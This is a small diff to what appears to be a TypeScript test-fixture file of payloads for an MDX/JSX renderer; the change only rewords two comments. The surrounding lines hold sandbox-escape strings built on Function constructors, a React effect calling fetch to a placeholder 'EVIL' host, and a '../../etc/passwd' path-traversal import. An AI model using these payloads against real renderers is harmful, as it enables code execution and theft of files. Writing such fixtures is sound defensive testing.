@@ -2,7 +2,7 @@ import { pages, type Payload } from "../payload.ts";
 
 const secret = "export const secret = 'RUN'";
 
-/** JavaScript in expressions, spread props, and names. */
+/** JavaScript in expressions, in spread props, and in names. */
 export const expressions: readonly Payload[] = pages("code", {
   "the maker of functions": '{[].constructor.constructor("RUN")()}',
   "the maker of functions of text": '{"".sub.constructor("RUN")()}',
@@ -136,7 +136,7 @@ export const expressions: readonly Payload[] = pages("code", {
   "effects of React": `${secret}\nexport const A = () => { React.useEffect(() => { RUN; fetch("https://EVIL") }); React.useLayoutEffect(() => RUN); const [x] = React.useState(() => RUN); const r = React.useRef(RUN); React.useMemo(() => RUN); return <p ref={() => RUN}>{x}</p> }\n\n<A />`,
 });
 
-/** Imports of a page, with the imported files. */
+/** Imports of a page, along with the imported files. */
 export const imports: readonly Payload[] = [
   ...Object.entries({
     "a file above": "../../etc/passwd",
